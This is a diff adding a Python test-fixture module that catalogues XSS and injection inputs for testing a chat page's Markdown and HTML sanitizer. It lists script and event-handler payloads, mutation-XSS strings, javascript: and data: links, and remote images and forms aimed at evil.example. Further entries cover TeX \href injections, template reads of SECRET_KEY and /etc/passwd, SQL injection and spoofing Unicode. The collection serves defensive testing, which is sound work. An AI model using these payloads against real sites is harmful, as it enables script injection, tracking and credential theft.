@@ -1,0 +1,191 @@
+# ruff: noqa: E501 - an attack is easier to read in one line
+"""What somebody may write, or a model may say, to make the page do what it should not: each by its name.
+
+Whatever works would show: it opens a dialog (`alert`), sets `hacked`, asks a host for something (all of them end in
+.example), leaves the page, or breaks the policy.
+"""
+
+HTML = {
+    "script": "<script>alert(1)</script>",
+    "script_src": '<script src="https://evil.example/x.js"></script>',
+    "script_split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "script_no_end": "<script>alert(1)//",
+    "script_upper": '<SCRIPT/SRC="//evil.example/x.js"></SCRIPT>',
+    "img_onerror": "<img src=x onerror=alert(1)>",
+    "img_slash": "<img/src=x/onerror=alert(1)//>",
+    "img_remote": '<img src="https://evil.example/pixel.png">',
+    "img_srcset": '<img srcset="https://evil.example/a.png 1x" src="">',
+    "img_lazy": '<img loading="eager" src="//evil.example/lazy.png">',
+    "picture_source": '<picture><source srcset="https://evil.example/s.png"><img></picture>',
+    "svg_onload": "<svg onload=alert(1)>",
+    "svg_script": "<svg><script>alert&#40;1&#41;</script></svg>",
+    "svg_animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>press</text></a></svg>",
+    "svg_use": '<svg><use href="https://evil.example/x.svg#a"></use></svg>',
+    "svg_image": '<svg><image href="https://evil.example/i.png"/></svg>',
+    "svg_foreign": "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
+    "svg_style": "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "math_href": '<math><mtext href="javascript:alert(1)">press</mtext></math>',
+    "math_mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+    "math_annotation": '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
+    "mutation_noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "mutation_form": '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
+    "mutation_template": "<template><img src=x onerror=alert(1)></template>",
+    "mutation_p_in_svg": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+    "mutation_select": "<select><template><style></select><img src=x onerror=alert(1)></style></template>",
+    "mutation_xmp": '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
+    "mutation_depth": f"{'<div>' * 520}<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "shadow_root": '<div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>',
+    "iframe_javascript": '<iframe src="javascript:alert(1)"></iframe>',
+    "iframe_srcdoc": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+    "object_data": '<object data="https://evil.example/x.swf"></object>',
+    "embed": '<embed src="https://evil.example/x">',
+    "audio_video": '<video src="https://evil.example/v.mp4" autoplay onloadstart=alert(1)></video><audio src=x onerror=alert(1)>',
+    "base": '<base href="https://evil.example/">',
+    "meta_refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    "meta_policy": '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">',
+    "link_stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
+    "link_prefetch": '<link rel="prefetch" href="https://evil.example/p"><link rel="dns-prefetch" href="//evil.example">',
+    "link_icon": '<link rel="icon" href="https://evil.example/favicon.ico">',
+    "form_action": '<form action="https://evil.example/" id="composer"><button>Send</button><input name="password"></form>',
+    "form_formaction": '<button form="composer" formaction="javascript:alert(1)">press</button>',
+    "details_ontoggle": "<details open ontoggle=alert(1)>",
+    "body_onload": '<body onload=alert(1) background="https://evil.example/b.png">',
+    "input_autofocus": "<input autofocus onfocus=alert(1)>",
+    "marquee": "<marquee onstart=alert(1)>press</marquee>",
+    "popover": "<button popovertarget=x>press</button><div popover id=x onbeforetoggle=alert(1)>x</div>",
+    "style_import": "<style>@import url(https://evil.example/x.css); body { display: none }</style>",
+    "style_attribute": '<p style="position:fixed;inset:0;background:url(https://evil.example/c.png)">over all</p>',
+    "style_font": "<style>@font-face { font-family: x; src: url(//evil.example/f) } * { font-family: x }</style>",
+    "ids": '<a id="timeline"></a><p id="message-text" name="cookie"></p><img name="getElementById">',
+    "clobber": '<form id="document"><input name="body"><input name="querySelector"></form><a id="trustedTypes"></a>',
+    "clobber_sink": '<a id="boot">{}</a><p id="conversations" data-part="text"></p>',
+    "comment": "<!--><img src=x onerror=alert(1)>-->",
+    "comment_open": "<!-- ",
+    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "doctype": '<!DOCTYPE html [<!ENTITY x SYSTEM "https://evil.example/x">]>&x;',
+    "instruction": '<?xml-stylesheet href="https://evil.example/x.xsl"?><?php alert(1) ?>',
+    "attribute_break": '" onmouseover="alert(1)" x="\' onclick=\'alert(1)',
+    "tag_break": '"><img src=x onerror=alert(1)><x y="',
+    "title_break": "</title></textarea></style></script><img src=x onerror=alert(1)>",
+    "data_attributes": '<span class="picture" data-picture="https://evil.example/auto.png">x</span><i data-action="delete">x</i>',
+    "classes": '<span class="note-mark formula">$x$</span><div class="toast dialog" role="dialog">sign in</div>',
+    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &lt;svg/onload=alert(1)&gt;",
+    "entities_double": "&amp;lt;img src=x onerror=alert(1)&amp;gt; &#x26;#60;script&#x26;#62;",
+    "fullwidth": "＜script＞alert(1)＜/script＞ \u02bascript\u02ba",
+    "nul_like": "<scr\ufffdipt>alert(1)</scr\ufffdipt><img \u0001src=x o\u0000nerror=alert(1)>".replace("\0", "\u0002"),
+    "utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+}
+
+LINKS = {
+    "javascript": "[press](javascript:alert(1))",
+    "javascript_case": "[press](JaVaScRiPt:alert(1))",
+    "javascript_entity": "[press](java&#115;cript:alert(1)) [press](&#x6A;avascript:alert(1)) [press](javascript&colon;alert(1))",
+    "javascript_tab": "[press](java&Tab;script:alert(1)) [press](java\tscript:alert(1)) [press](<java\tscript:alert(1)>)",
+    "javascript_space": "[press](< javascript:alert(1)>) [press](\u00a0javascript:alert(1)) [press](\u0001javascript:alert(1))",
+    "javascript_percent": "[press](%6aavascript:alert(1)) [press](javascript%3Aalert(1))",
+    "javascript_slashes": "[press](javascript://evil.example/%0aalert(1)) [press](javascript:/*https://*/alert(1))",
+    "javascript_autolink": "<javascript:alert(1)> <JAVASCRIPT:alert(1)>",
+    "javascript_reference": "[press][j] [j]\n\n[j]: javascript:alert(1)",
+    "vbscript": "[press](vbscript:msgbox(1)) [press](livescript:alert(1)) [press](mocha:alert(1))",
+    "data_html": "[press](data:text/html,<script>alert(1)</script>) [press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "data_image_svg": "![x](data:image/svg+xml,<svg onload=alert(1)>) [press](data:image/svg+xml;base64,PHN2Zy8+)",
+    "data_image": "[press](data:image/png;base64,iVBORw0KGgo=) ![x](data:image/gif;base64,R0lGODlhAQABAAAAACw=)",
+    "file_blob": "[press](file:///etc/passwd) [press](blob:https://evil.example/1) [press](filesystem:https://evil.example/t/x)",
+    "view_source": "[press](view-source:https://evil.example) [press](chrome://settings) [press](about:blank) [press](ms-word:ofe)",
+    "other_schemes": "<ftp://evil.example> [press](tel:+1900) [press](intent://x#Intent;scheme=x;end) [press](ws://evil.example)",
+    "scheme_relative": "[press](//evil.example/x) [press](\\\\evil.example) [press](/\\evil.example)",
+    "relative": "[press](/accounts/logout/) [press](../admin/) [press](?next=//evil.example) [press](#timeline)",
+    "title_break": '[press](https://good.example "x" onmouseover="alert(1)") [press](https://good.example \'"><img src=x onerror=alert(1)>\')',
+    "href_break": '[press](https://good.example/"onmouseover="alert(1)) [press](<https://good.example/" onclick="alert(1)>)',
+    "label_html": "[<img src=x onerror=alert(1)>](https://good.example) [`<script>alert(1)</script>`](https://good.example)",
+    "nested": "[a [press](javascript:alert(1)) b](https://good.example) [![x](javascript:alert(1))](javascript:alert(2))",
+    "autolink_break": '<https://good.example/"><img/src=x/onerror=alert(1)> https://good.example/<img src=x onerror=alert(1)>',
+    "mail": '<x@evil.example?subject="><script>alert(1)</script>> [press](mailto:a@b.example?body=<script>alert(1)</script>)',
+    "punycode": "[apple](https://xn--pple-43d.example/) https://аpple.example/ <https://аррӏе.example>",
+    "user_part": "[press](https://good.example@evil.example/) https://good.example:x@evil.example/ ",
+    "words_lie": "[https://good.example/login](https://evil.example/login) [good.example](http://evil.example)",
+    "unseen_words": "[\u200b](https://evil.example/unseen) [](https://evil.example/empty) [\u2800](https://evil.example/blank)",
+    "overrides": "[\u202egpj.exe](https://evil.example/\u202egpj.exe) \u2067https://evil.example/\u2066",
+    "newline": "[press](java\nscript:alert(1)) [press](<java\nscript:alert(1)>)",
+    "prototype": "[__proto__] [constructor] [toString][__proto__] [x][hasOwnProperty]\n\n[__proto__]: javascript:alert(1)\n[constructor]: /x",
+    "redefined": "[good]\n\n[good]: https://good.example\n[good]: javascript:alert(1)",
+    "huge_host": f"[press](https://{'a' * 300}.example/) [press](http://) [press](https:///) [press](http://[::1]:99999/)",
+}
+
+PICTURES = {
+    "picture": "![tracker](https://evil.example/pixel.png)",
+    "picture_reference": "![tracker][p]\n\n[p]: https://evil.example/reference.png",
+    "picture_relative": "![x](/accounts/logout/) ![x](//evil.example/p.png) ![](relative.png)",
+    "picture_alt": '![" onerror="alert(1)](https://evil.example/a.png) ![<img src=x onerror=alert(1)>](https://evil.example/b.png)',
+    "picture_url": '![x](https://evil.example/"onload="alert(1)) ![x](<https://evil.example/a b\'"><script>alert(1)</script>>)',
+    "picture_title": '![x](https://evil.example/t.png "\\" onload=\\"alert(1)")',
+    "picture_in_link": "[![x](https://evil.example/in.png)](https://good.example/)",
+    "picture_in_table": "| ![x](https://evil.example/cell.png) | a |\n|---|---|\n| <img src=//evil.example/td.png> | `|` |",
+    "picture_in_heading": "# ![x](https://evil.example/h.png)\n\n> ![x](https://evil.example/q.png)",
+    "picture_script": "![x](javascript:alert(1)) ![x](vbscript:x) ![x](data:text/html,<script>alert(1)</script>)",
+}
+
+FORMULAS = {
+    "tex_href": "$\\href{javascript:alert(1)}{x}$ $\\href{https://evil.example}{y}$ $\\url{javascript:alert(1)}$",
+    "tex_picture": "$\\includegraphics[height=1em]{https://evil.example/f.png}$",
+    "tex_html": "$\\htmlData{x=1}{x}$ $\\htmlClass{toast}{x}$ $\\htmlId{timeline}{x}$ $\\htmlStyle{color:red}{x}$",
+    "tex_style": "$\\htmlStyle{background:url(https://evil.example/s.png)}{x}$ $\\color{red;background:url(//evil.example)}{x}$",
+    "tex_colour": '$\\textcolor{"><img src=x onerror=alert(1)>}{x}$ $\\colorbox{red}{x}$ $\\fcolorbox{red}{blue}{x}$ $\\pmb{x}$',
+    "tex_macro": "$\\def\\x{\\href{javascript:alert(1)}{z}}\\x$ $\\gdef\\a{\\a\\a}\\a$ $\\newcommand{\\b}{\\b}\\b$",
+    "tex_text": "$\\text{<script>alert(1)</script>}$ $\\text{</math><img src=x onerror=alert(1)>}$ $$\\tag{<svg/onload=alert(1)>} x$$",
+    "tex_loop": "$$\\def\\f#1{\\f{#1#1}}\\f{x}$$ \\(\\expandafter\\expandafter\\x\\)",
+    "tex_moved": "$\\raisebox{-20em}{covers}$ $\\kern-50em x$ $\\hspace{-1000em}\\rule{30em}{30em}$ $\\smash{\\rule{900em}{900em}}$",
+    "tex_html_chars": "$x<y>z&amp;\"'`$ $$\\begin{CD}A@>a>>B\\end{CD}$$ $\\verb|<script>alert(1)</script>|$",
+}
+
+CODE = {
+    "fence_language": '```"><img src=x onerror=alert(1)>\ncode\n```',
+    "fence_class": "```x onmouseover=alert(1) class=toast\ncode\n```",
+    "fence_prototype": "```__proto__\nx\n```\n\n```constructor\nx\n```\n\n```toString\nx\n```",
+    "fence_path": "```../../admin/backends\nx\n```\n\n```https://evil.example/grammar\nx\n```",
+    "fence_html": "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```",
+    "fence_in_list": '- ```"><script>alert(1)</script>\n  <script>alert(1)</script>\n  ```\n',
+    "fence_open": "~~~xml\n<svg onload=alert(1)>\n~~~",
+    "code_inline": "`<img src=x onerror=alert(1)>` ``<script>alert`1`</script>``",
+    "code_indented": "    <script>alert(1)</script>\n\n\t<img src=x onerror=alert(1)>",
+}
+
+SYNTAX = {
+    "note_names": 'x[^__proto__] y[^constructor] z[^"><img/src=x/onerror=alert(1)>]\n\n[^__proto__]: one\n\n[^constructor]: two',
+    "note_html": "x[^1]\n\n[^1]: <script>alert(1)</script> [press](javascript:alert(1)) ![x](https://evil.example/note.png)\n",
+    "note_ids": "x[^note-1-1] y[^timeline]\n\n[^note-1-1]: a\n\n[^timeline]: b\n",
+    "table_break": '| <script>alert(1)</script> | a |\n|:--|--:|\n| " onclick=alert(1) x=" | <td onclick=alert(1)> |',
+    "task": "- [ ] <input onfocus=alert(1) autofocus>\n- [x] <img src=x onerror=alert(1)>",
+    "heading": "# <img src=x onerror=alert(1)> {#timeline .toast onclick=alert(1)}",
+    "emphasis_break": "*<img src=*x onerror=**alert(1)**> _<svg_/onload=alert(1)>",
+    "broken_nesting": "> - <b>**`<i>`</b>\n> 1. ~~<s onclick=alert(1)>~~\n<div><p><table><tr><td></div>",
+    "django": "{% load i18n %}{{ settings.SECRET_KEY }}{% include '/etc/passwd' %}{# x #}{{ request.user.password|safe }}",
+    "interpolation": "%(name)s %(title)s %s {0} ${alert(1)} `${alert(1)}` #{alert(1)} {{constructor.constructor('alert(1)')()}}",
+    "json_break": '</script><script>alert(1)</script><!--<script>\\u003cscript\\u003e\\"',
+    "json_comment": "<!--<script>",
+    "separators": "x\u2028alert(1)\u2029//\u0085 '\u2028;alert(1)//",
+    "overrides": "\u202e\u2067 evil \u202d\u2066 txt.exe \u200f\u061c",
+    "unseen": "\u200b\u200c\u200d\u2060\ufeff\u00ad",
+    "control": "\u0001\u0007\u0008\u001b[31mred\u001b]0;title\u0007 \u007f\u009b",
+    "sql": '\'; DROP TABLE chat_message; -- " OR 1=1 /* NEAR( "unclosed',
+    "prototype_words": "__proto__ constructor hasOwnProperty valueOf __defineGetter__ then toJSON",
+}
+
+ATTACKS = {
+    **{f"html_{name}": text for name, text in HTML.items()},
+    **{f"link_{name}": text for name, text in LINKS.items()},
+    **PICTURES,
+    **FORMULAS,
+    **CODE,
+    **SYNTAX,
+}
+
+
+def packed(length: int) -> list[str]:
+    """All of them in texts of at most so many characters, where one alone is not longer."""
+    texts = [""]
+    for attack in ATTACKS.values():
+        if texts[-1] and len(texts[-1]) + len(attack) + 2 > length:
+            texts.append("")
+        texts[-1] = f"{texts[-1]}\n\n{attack}" if texts[-1] else attack
+    return texts
